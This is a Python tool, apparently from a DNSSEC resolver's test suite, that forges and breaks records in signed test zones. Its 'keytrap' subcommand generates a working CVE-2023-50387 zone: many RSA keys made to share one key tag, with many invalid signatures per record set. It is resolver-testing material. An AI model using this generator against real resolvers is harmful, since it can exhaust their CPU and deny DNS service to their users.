#!/usr/bin/env python3
"""Forges and breaks DNSSEC records for the signed test hierarchy (standard library only).

Used by scripts/make-test-hierarchy; every subcommand works on zone files in the
one-record-per-line presentation format that ldns-signzone writes
(owner TTL CLASS TYPE RDATA..., comments after ';').

  ds KEYFILE DIGEST_TYPE            DS line for the DNSKEY in KEYFILE (1 SHA-1, 2 SHA-256, 4 SHA-384)
  dnskey KEYFILE TTL                the DNSKEY in KEYFILE as one plain zone-file line with TTL
  random-dnskey OWNER FLAGS ALG N   DNSKEY line with N random key bytes (for unknown algorithms)
  random-ds OWNER TAG ALG DTYPE N   DS line with N random digest bytes (for unknown digest types)
  drop ZONE TYPE [--owner O] [--what rr|sig|both]
                                    remove the TYPE records and/or the RRSIGs covering TYPE
  corrupt-rrsig ZONE OWNER TYPE     flip bits in the signature field of the RRSIG(s) covering
                                    OWNER/TYPE, leaving every other field intact
  keytrap ZONE_NAME OUT_ZONE OUT_DS --keys N --sigs M --inception T --expiration T --ns-addr A
                                    a KeyTrap-style zone (CVE-2023-50387): N RSA DNSKEYs sharing
                                    one key tag, every RRset carrying M RRSIGs with that tag, none
                                    of them valid; OUT_DS gets a DS that matches one of the keys
"""

import argparse
import base64
import hashlib
import os
import sys
import time


def name_wire(name):
    """Canonical (lower-case, uncompressed) wire form of an absolute presentation name."""
    name = name.lower()
    if not name.endswith('.'):
        raise SystemExit(f'zonetool: name {name!r} is not absolute')
    if '\\' in name:
        raise SystemExit(f'zonetool: escaped name {name!r} is not supported')
    wire = b''
    for label in name[:-1].split('.') if name != '.' else []:
        wire += bytes([len(label)]) + label.encode('ascii')
    return wire + b'\x00'


def label_count(name):
    """RRSIG Labels field (RFC 4034 §3.1.3): labels of the owner, root and '*' not counted."""
    labels = [l for l in name.rstrip('.').split('.') if l]
    if labels and labels[0] == '*':
        labels = labels[1:]
    return len(labels)


def key_tag(rdata):
    """RFC 4034 Appendix B key tag of DNSKEY RDATA (not for algorithm 1)."""
    ac = 0
    for i, b in enumerate(rdata):
        ac += b if i & 1 else b << 8
    ac += (ac >> 16) & 0xFFFF
    return ac & 0xFFFF


def dnskey_rdata(flags, proto, alg, key):
    return flags.to_bytes(2, 'big') + bytes([proto, alg]) + key


def strip_comment(line):
    return line.split(';', 1)[0].strip()


def split_rr(line):
    """Split one RR line into (owner, ttl-or-None, class, type, rdata tokens)."""
    tok = strip_comment(line).split()
    if not tok:
        return None
    owner = tok[0]
    i = 1
    ttl = None
    cls = 'IN'
    while i < len(tok) and (tok[i].isdigit() or tok[i].upper() in ('IN', 'CH', 'HS')):
        if tok[i].isdigit():
            ttl = tok[i]
        else:
            cls = tok[i].upper()
        i += 1
    if i >= len(tok):
        raise SystemExit(f'zonetool: cannot parse {line!r}')
    return owner, ttl, cls, tok[i].upper(), tok[i + 1:]


def read_dnskey(path):
    with open(path) as f:
        for line in f:
            rr = split_rr(line)
            if rr and rr[3] == 'DNSKEY':
                owner, _, _, _, rd = rr
                key = base64.b64decode(''.join(rd[3:]))
                return owner, dnskey_rdata(int(rd[0]), int(rd[1]), int(rd[2]), key)
    raise SystemExit(f'zonetool: {path}: no DNSKEY record')


DIGESTS = {1: hashlib.sha1, 2: hashlib.sha256, 4: hashlib.sha384}


def ds_line(owner, rdata, dtype, ttl=3600):
    digest = DIGESTS[dtype](name_wire(owner) + rdata).hexdigest()
    return f'{owner.lower()}\t{ttl}\tIN\tDS\t{key_tag(rdata)} {rdata[3]} {dtype} {digest}'


def cmd_ds(a):
    owner, rdata = read_dnskey(a.keyfile)
    print(ds_line(owner, rdata, a.digest_type))


def cmd_dnskey(a):
    owner, rdata = read_dnskey(a.keyfile)
    print(f'{owner.lower()}\t{a.ttl}\tIN\tDNSKEY\t{int.from_bytes(rdata[:2], "big")} {rdata[2]} '
          f'{rdata[3]} {base64.b64encode(rdata[4:]).decode()}')


def cmd_random_dnskey(a):
    key = os.urandom(a.length)
    print(f'{a.owner}\t3600\tIN\tDNSKEY\t{a.flags} 3 {a.alg} {base64.b64encode(key).decode()}')


def cmd_random_ds(a):
    print(f'{a.owner}\t3600\tIN\tDS\t{a.tag} {a.alg} {a.dtype} {os.urandom(a.length).hex()}')


def rewrite(path, fn):
    with open(path) as f:
        lines = f.readlines()
    out = []
    hits = 0
    for line in lines:
        rr = split_rr(line)
        new = fn(line, rr) if rr else line
        if new != line:
            hits += 1
        if new is not None:
            out.append(new)
    with open(path, 'w') as f:
        f.writelines(out)
    return hits


def cmd_drop(a):
    owner = a.owner.lower() if a.owner else None
    typ = a.type.upper()

    def fn(line, rr):
        if owner and rr[0].lower() != owner:
            return line
        if a.what in ('rr', 'both') and rr[3] == typ:
            return None
        if a.what in ('sig', 'both') and rr[3] == 'RRSIG' and rr[4][0].upper() == typ:
            return None
        return line

    if rewrite(a.zone, fn) == 0:
        raise SystemExit(f'zonetool: {a.zone}: nothing to drop for {a.owner or "*"} {typ}')


def cmd_corrupt_rrsig(a):
    owner = a.owner.lower()
    typ = a.type.upper()

    def fn(line, rr):
        if rr[0].lower() != owner or rr[3] != 'RRSIG' or rr[4][0].upper() != typ:
            return line
        rd = rr[4]
        sig = bytearray(base64.b64decode(''.join(rd[8:])))
        # Flip a whole byte in the middle: for RSA, ECDSA (r||s) and EdDSA (R||S) alike
        # this changes the value being checked without touching any header field.
        sig[len(sig) // 2] ^= 0xFF
        fields = ' '.join(rd[:8] + [base64.b64encode(bytes(sig)).decode()])
        return f'{rr[0]}\t{rr[1] or 3600}\t{rr[2]}\tRRSIG\t{fields}\n'

    if rewrite(a.zone, fn) == 0:
        raise SystemExit(f'zonetool: {a.zone}: no RRSIG covering {a.owner} {typ}')


def timestamp(t):
    return time.strftime('%Y%m%d%H%M%S', time.gmtime(t))


def cmd_keytrap(a):
    zone = a.zone_name.lower()
    if not zone.endswith('.'):
        zone += '.'
    modlen = 256  # RSA-2048: every failed attempt costs a full public-key operation
    exponent = b'\x01\x00\x01'
    prefix = bytes([len(exponent)]) + exponent
    # Modulus bytes [100:102] sit at an even RDATA offset (4 + 4 + 100), so they form one
    # 16-bit word of the key-tag sum and can be chosen to make the tag collide.
    fix = 100
    keys = []
    target = None
    for i in range(a.keys):
        flags = 257 if i == 0 else 256
        mod = bytearray(os.urandom(modlen))
        mod[0] |= 0x80  # full 2048-bit modulus
        mod[-1] |= 0x01  # odd, so OpenSSL accepts it as an RSA modulus
        if target is None:
            rdata = dnskey_rdata(flags, 3, 8, prefix + bytes(mod))
            target = key_tag(rdata)
        else:
            mod[fix] = mod[fix + 1] = 0
            rdata = dnskey_rdata(flags, 3, 8, prefix + bytes(mod))
            base = sum(b if j & 1 else b << 8 for j, b in enumerate(rdata))
            for w in range(65536):
                ac = base + w
                if (ac + ((ac >> 16) & 0xFFFF)) & 0xFFFF == target:
                    break
            else:
                raise SystemExit('zonetool: no key-tag collision found')
            mod[fix], mod[fix + 1] = w >> 8, w & 0xFF
            rdata = dnskey_rdata(flags, 3, 8, prefix + bytes(mod))
            assert key_tag(rdata) == target
        keys.append(rdata)

    inc, exp = timestamp(a.inception), timestamp(a.expiration)
    ns = f'ns1.{zone}'
    rrsets = [
        (zone, 'SOA', [f'{ns} hostmaster.{zone} {int(time.time())} 3600 900 604800 300']),
        (zone, 'NS', [ns]),
        (zone, 'DNSKEY', [f'{int.from_bytes(k[:2], "big")} 3 8 {base64.b64encode(k[4:]).decode()}'
                          for k in keys]),
        (ns, 'A', [a.ns_addr]),
        (f'www.{zone}', 'A', ['192.0.2.1']),
    ]
    out = [f'; KeyTrap-style zone made by zonetool.py: {a.keys} DNSKEYs with key tag {target}, '
           f'{a.sigs} invalid RRSIGs per RRset\n']
    for owner, typ, rdatas in rrsets:
        for rd in rdatas:
            out.append(f'{owner}\t3600\tIN\t{typ}\t{rd}\n')
        for _ in range(a.sigs):
            sig = bytearray(os.urandom(modlen))
            sig[0] &= 0x7F  # below every modulus, so it is a well-formed RSA signature value
            out.append(f'{owner}\t3600\tIN\tRRSIG\t{typ} 8 {label_count(owner)} 3600 {exp} {inc} '
                       f'{target} {zone} {base64.b64encode(bytes(sig)).decode()}\n')
    with open(a.out_zone, 'w') as f:
        f.writelines(out)
    with open(a.out_ds, 'w') as f:
        f.write(ds_line(zone, keys[0], 2) + '\n')


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest='cmd', required=True)

    s = sub.add_parser('ds')
    s.add_argument('keyfile')
    s.add_argument('digest_type', type=int, choices=sorted(DIGESTS))
    s.set_defaults(fn=cmd_ds)

    s = sub.add_parser('dnskey')
    s.add_argument('keyfile')
    s.add_argument('ttl', type=int)
    s.set_defaults(fn=cmd_dnskey)

    s = sub.add_parser('random-dnskey')
    s.add_argument('owner')
    s.add_argument('flags', type=int)
    s.add_argument('alg', type=int)
    s.add_argument('length', type=int)
    s.set_defaults(fn=cmd_random_dnskey)

    s = sub.add_parser('random-ds')
    s.add_argument('owner')
    s.add_argument('tag', type=int)
    s.add_argument('alg', type=int)
    s.add_argument('dtype', type=int)
    s.add_argument('length', type=int)
    s.set_defaults(fn=cmd_random_ds)

    s = sub.add_parser('drop')
    s.add_argument('zone')
    s.add_argument('type')
    s.add_argument('--owner')
    s.add_argument('--what', choices=('rr', 'sig', 'both'), default='both')
    s.set_defaults(fn=cmd_drop)

    s = sub.add_parser('corrupt-rrsig')
    s.add_argument('zone')
    s.add_argument('owner')
    s.add_argument('type')
    s.set_defaults(fn=cmd_corrupt_rrsig)

    s = sub.add_parser('keytrap')
    s.add_argument('zone_name')
    s.add_argument('out_zone')
    s.add_argument('out_ds')
    s.add_argument('--keys', type=int, default=32)
    s.add_argument('--sigs', type=int, default=32)
    s.add_argument('--inception', type=int, required=True)
    s.add_argument('--expiration', type=int, required=True)
    s.add_argument('--ns-addr', required=True)
    s.set_defaults(fn=cmd_keytrap)

    a = p.parse_args()
    a.fn(a)


if __name__ == '__main__':
    sys.exit(main())
